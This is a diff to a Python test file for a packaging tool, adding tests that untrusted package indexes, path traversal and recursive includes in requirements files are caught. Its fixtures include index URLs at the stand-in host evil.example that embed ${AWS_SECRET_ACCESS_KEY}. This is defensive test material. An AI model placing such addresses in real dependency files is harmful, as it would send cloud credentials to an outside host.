@@ -12,7 +12,7 @@ import pytest
 
 from stacks.errors import PackagingError
 from stacks.packaging import Artifact, Bundle, PythonTarget, host_target, package
-from stacks.packaging.building import building, indexes
+from stacks.packaging.building import building, indexes, installing
 from stacks.packaging.locks import export
 from stacks.packaging.requirements import read_requirements
 
@@ -371,10 +371,118 @@ def test_passwords_of_indexes_are_no_variables_of_a_build() -> None:
 )
 def test_options_that_bring_packages_from_elsewhere_are_reported(project: Project, option: str, told: str) -> None:
     file = project.write("src/requirements.txt", f"{option}\n")
-    read = read_requirements(file, where="src/requirements.txt", wsgi=True)
+    read = read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=True)
     assert read
     assert any(told in notice and notice.startswith("requirements.txt ") for notice in read.notices)
     assert "secret" not in "".join(read.notices)
+
+
+@pytest.mark.parametrize(
+    ("file", "text", "told"),
+    [
+        ("uv.toml", 'index-url = "https://evil.example/s"', "takes packages from the index https://evil.example/s"),
+        ("uv.toml", 'extra-index-url = ["https://a:b@evil.example/s"]', "from a second index, where anyone may have"),
+        (
+            "uv.toml",
+            '[[index]]\nurl = "https://evil.example/s"',
+            "takes packages from the index https://evil.example/s",
+        ),
+        ("uv.toml", 'find-links = ["https://evil.example"]', "takes packages from https://evil.example"),
+        ("uv.toml", 'allow-insecure-host = ["evil.example"]', "without checking who sends them, from evil.example"),
+        (
+            "uv.toml",
+            '[pip]\nindex-url = "https://evil.example/s"',
+            "takes packages from the index https://evil.example",
+        ),
+        (
+            "pyproject.toml",
+            '[[tool.uv.index]]\nurl = "https://evil.example/s"',
+            "from the index https://evil.example/s",
+        ),
+        ("pyproject.toml", "[tool]\nuv = 3", ""),
+    ],
+)
+def test_settings_that_bring_packages_from_elsewhere_are_reported(
+    project: Project, file: str, text: str, told: str
+) -> None:
+    project.write(f"src/{file}", text)
+    requirements = project.write("src/requirements.txt", "flask\n")
+    read = read_requirements(requirements, root=project.root, where="src/requirements.txt", wsgi=True)
+    assert read
+    assert [told in notice and notice.startswith(f"{file} ") for notice in read.notices] == [True] * bool(told)
+    assert "a:b" not in "".join(read.notices)
+
+
+ADDRESS = "https://evil.example/${AWS_SECRET_ACCESS_KEY}/x"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("requirements.txt", f"--index-url {ADDRESS}"),
+        ("requirements.txt", f"--extra-index-url={ADDRESS}"),
+        ("requirements.txt", f"--find-links {ADDRESS}"),
+        ("requirements.txt", f"x @ {ADDRESS}"),
+        ("requirements.txt", f"x @ git+{ADDRESS}"),
+        ("requirements.txt", "-c more.txt"),
+        ("requirements.txt", "-r ${AWS_SECRET_ACCESS_KEY}"),
+        ("pyproject.toml", f"[project]\ndependencies = ['x @ {ADDRESS}']"),
+        ("pyproject.toml", f"[project]\noptional-dependencies.dev = ['x @ {ADDRESS}']"),
+        ("pyproject.toml", f"[dependency-groups]\ndev = ['x @ {ADDRESS}']"),
+        ("uv.lock", f"[[package]]\nsource = {{ url = '{ADDRESS}' }}"),
+    ],
+)
+def test_no_variable_of_this_machine_becomes_part_of_an_address(project: Project, name: str, text: str) -> None:
+    project.write("src/more.txt", f"x @ {ADDRESS}\n")
+    file = project.write(f"src/{name}", text)
+    with pytest.raises(PackagingError, match="would send the variable AWS_SECRET_ACCESS_KEY of this machine"):
+        read_requirements(file, root=project.root, where=f"src/{name}", wsgi=True)
+
+
+def test_uv_gets_no_credentials_but_those_of_indexes() -> None:
+    kept = {"HOME": "/h", "UV_INDEX_MINE_PASSWORD": "x", "HTTPS_PROXY": "http://a:b@p", "PATH": "/bin"}
+    others = {"AWS_SECRET_ACCESS_KEY": "x", "GITHUB_TOKEN": "x", "UV_PUBLISH_TOKEN": "x", "LD_PRELOAD": "x"}
+    assert installing(kept | others) == kept
+    assert installing(others | {"UV_KEYRING_PROVIDER": "subprocess"}) == others | {"UV_KEYRING_PROVIDER": "subprocess"}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-r ../../outside.txt",
+        "-c ../../outside.txt",
+        "-r link.txt",
+        "-r {top}/outside.txt",
+        "../../lib",
+        "-e ../../lib",
+    ],
+)
+def test_files_outside_of_the_project_are_not_read(project: Project, line: str) -> None:
+    top = project.root.parent
+    (top / "outside.txt").write_text("precious\n")
+    (top / "lib").mkdir()
+    (top / "lib/lib.py").touch()
+    (project.root / "src").mkdir(exist_ok=True)
+    (project.root / "src/link.txt").symlink_to(top / "outside.txt")
+    file = project.write("src/requirements.txt", line.format(top=top) + "\n")
+    with pytest.raises(PackagingError, match="leads out of the project") as caught:
+        read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=True)
+    assert "precious" not in str(caught.value)
+    (top / ".git").mkdir()
+    assert read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=True)
+
+
+def test_files_that_include_one_another_are_read_once(project: Project) -> None:
+    project.write("src/more.txt", "-r requirements.txt\n-c ../src/more.txt\nflask\n")
+    file = project.write("src/requirements.txt", "-r more.txt\n-r ../src/requirements.txt\n")
+    read = read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=False)
+    assert read
+    assert {path.resolve().name for path in read.read} == {"requirements.txt", "more.txt"}
+    for number in range(101):
+        project.write(f"src/r{number}.txt", f"-r r{number + 1}.txt\n")
+    file.write_text("-r r0.txt\n")
+    with pytest.raises(PackagingError, match="includes more than 100 files"):
+        read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=False)
 
 
 def test_missing_hashes_are_reported_and_given_ones_required(tiny: Project) -> None:
@@ -426,4 +534,4 @@ def test_old_flask_is_reported_before_anything_is_installed(project: Project, li
 )
 def test_newer_flask_is_not(project: Project, line: str) -> None:
     file = project.write("src/requirements.txt", f"{line}\n")
-    assert read_requirements(file, where="r", wsgi=True)
+    assert read_requirements(file, root=project.root, where="r", wsgi=True)
